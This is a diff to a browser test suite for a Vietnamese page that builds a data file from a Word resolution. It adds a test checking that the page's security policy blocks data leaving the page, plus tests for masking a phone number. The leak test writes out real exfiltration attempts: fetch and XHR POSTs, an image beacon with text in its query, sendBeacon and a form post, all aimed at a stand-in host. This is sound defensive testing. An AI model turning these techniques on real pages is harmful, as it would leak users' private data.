@@ -23,6 +23,71 @@ describe('the page that makes a file', { skip }, () => {
     assert.doesNotMatch(POLICY, /unsafe|\*|https?:/);
   });
 
+  it('lets nothing out, whatever tries: not from the page, not from the worker, and the page itself sends nothing even to its own server', async () => {
+    const tab = await openMaker();
+    const sent = [];
+    tab.raw.on('request', (request) => sent.push([request.method(), new URL(request.url()), request.hasPostData?.() ?? false]));
+    await tab.drop(await paper(), 'nghi-quyet-05.docx');
+    await tab.sees('.step.review');
+    await tab.press('Ghi nhận “Phấn đấu”');
+    await tab.press('Tiếp: tải về và dán');
+    await tab.sees('.downloads .primary');
+    assert.ok((await tab.download('Tải tệp dữ liệu')).text);
+    for (const [method, url, body] of sent) {
+      assert.ok((method === 'GET' || method === 'HEAD') && !body, `${method} ${url}`);
+      // An address can carry words away, too.
+      assert.ok(url.protocol === 'blob:' || (url.origin === tab.origin && url.search === ''), String(url));
+    }
+    // A machine elsewhere, as far as the policy is concerned.
+    const away = tab.origin.replace(/\/\/[^:]+/, '//127.0.0.2');
+    const out = await tab.evaluate(async (away) => {
+      const blocked = [];
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective));
+      const words = document.body.textContent.slice(0, 2000);
+      const fails = async (attempt) => {
+        try {
+          await attempt();
+          return false;
+        } catch {
+          return true;
+        }
+      };
+      const failed = [
+        await fails(() => fetch(away, { method: 'POST', body: words, mode: 'no-cors' })),
+        await fails(
+          () =>
+            new Promise((resolve, reject) => {
+              const request = new XMLHttpRequest();
+              request.open('POST', away);
+              request.onload = resolve;
+              request.onerror = reject;
+              request.send(words);
+            }),
+        ),
+        await fails(
+          () =>
+            new Promise((resolve, reject) => {
+              const image = new Image();
+              image.onload = resolve;
+              image.onerror = reject;
+              image.src = `${away}/?${encodeURIComponent(words.slice(0, 200))}`;
+            }),
+        ),
+      ];
+      navigator.sendBeacon(away, words);
+      const form = document.createElement('form');
+      form.action = location.origin;
+      form.method = 'post';
+      document.body.append(form);
+      form.submit();
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return { failed, blocked: [...new Set(blocked)].sort(), here: location.pathname };
+    }, away);
+    assert.deepEqual(out, { failed: [true, true, true], blocked: ['connect-src', 'form-action', 'img-src'], here: '/tao-tep.html' });
+    await tab.evaluate(() => localStorage.clear());
+    await tab.close();
+  });
+
   it('takes a Word file from drop to a widget, to a file that validates, to a table for results, and asks the network for nothing', async () => {
     const tab = await openPaper();
     await tab.waitFor(() => document.documentElement.dataset.loaded === 'all');
@@ -146,13 +211,21 @@ describe('the page that makes a file', { skip }, () => {
 
   it('masks personal data when asked, and says how much', async () => {
     const tab = await openPaper();
-    assert.match(await tab.text('.personal'), /1 chỗ có thể là thông tin cá nhân.*1 số điện thoại/);
-    await tab.evaluate(() => document.querySelector('.personal input').click());
+    assert.equal(await tab.evaluate(() => document.querySelector('.personal').getClientRects().length), 0, 'asked once, in the list');
+    assert.match(await tab.text('.matter'), /1 chỗ có thể là thông tin cá nhân.*1 số điện thoại/);
+    await tab.press('Che chỗ này');
     await tab.waitFor(() => {
       const text = document.querySelector('resolution-viewer').shadowRoot.textContent;
       return text.includes('đã che số điện thoại') && !text.includes('0903');
     });
     assert.match(await tab.text('.matters'), /còn 1 trong 1 điều/);
+    assert.match(await tab.text('.personal'), /Đã che 1 chỗ: 1 số điện thoại/);
+    const focused = () => document.activeElement.textContent;
+    assert.equal(await tab.evaluate(focused), 'Thôi che');
+    await tab.press('Thôi che');
+    await tab.waitFor(() => document.querySelector('resolution-viewer').shadowRoot.textContent.includes('0903'));
+    assert.equal(await tab.evaluate(focused), 'Che chỗ này');
+    await tab.press('Che chỗ này');
     await tab.press('Tiếp: tải về và dán');
     await tab.sees('.downloads .primary');
     const { text } = await tab.download('Tải tệp dữ liệu');
